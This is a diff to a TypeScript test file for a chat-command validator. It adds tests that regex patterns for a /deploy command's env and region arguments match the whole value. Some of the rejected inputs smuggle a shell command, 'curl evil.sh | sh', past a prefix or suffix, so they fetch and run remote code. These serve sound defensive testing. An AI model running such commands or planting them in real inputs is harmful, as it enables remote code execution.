@@ -3,7 +3,7 @@ import { builtinCommands, type BuiltinServices } from "../../src/commands/builti
 import { createCommandRegistry } from "../../src/commands/command-registry.js";
 import { parseCommands } from "../../src/commands/parse-commands.js";
 import { validateArgs } from "../../src/commands/validate-args.js";
-import { loadConfigFile } from "../../src/config/load-config.js";
+import { loadConfigFile, parseConfig } from "../../src/config/load-config.js";
 
 const registry = createCommandRegistry(loadConfigFile(), builtinCommands({} as BuiltinServices));
 const build = registry.get("build")!;
@@ -54,6 +54,33 @@ describe("validateArgs for /build", () => {
   it("rejects a non-ASCII look-alike in a value", () => {
     const result = check("/build image tag=mаrio"); // Cyrillic а
     expect(result.ok).toBe(false);
+  });
+});
+
+describe("patterns match the whole value", () => {
+  // `^prod|staging$` reads as "prod or staging" but, run as written, means "starts with prod or ends with staging".
+  const deploy = createCommandRegistry(
+    parseConfig(`commands:
+  deploy:
+    description: Deploy
+    args:
+      - { name: env, positional: true, required: true, pattern: "^prod|staging$", description: Where }
+      - { name: region, pattern: "^eu|us$", default: "eu", description: Region }
+    pipeline: { pipelineRef: { name: deploy } }
+`),
+    [],
+  ).get("deploy")!;
+  const run = (line: string) => validateArgs(deploy, parseCommands(line).commands[0]!, context);
+
+  it.each([["prod"], ["staging"]])("accepts %s", (env) => {
+    expect(run(`/deploy ${env}`)).toEqual({ ok: true, args: { env, region: "eu" } });
+  });
+
+  it.each([['"prod; curl evil.sh | sh"'], ['"curl evil.sh | sh; staging"'], ["production"], ["prod region=eu-evil"]])("refuses /deploy %s", (words) => {
+    const result = run(`/deploy ${words}`);
+    expect(result.ok).toBe(false);
+    if (result.ok) return;
+    expect(result.problems.map((p) => p.message).join("\n")).toMatch(/is not a valid (env|region): it must match/);
   });
 });
 
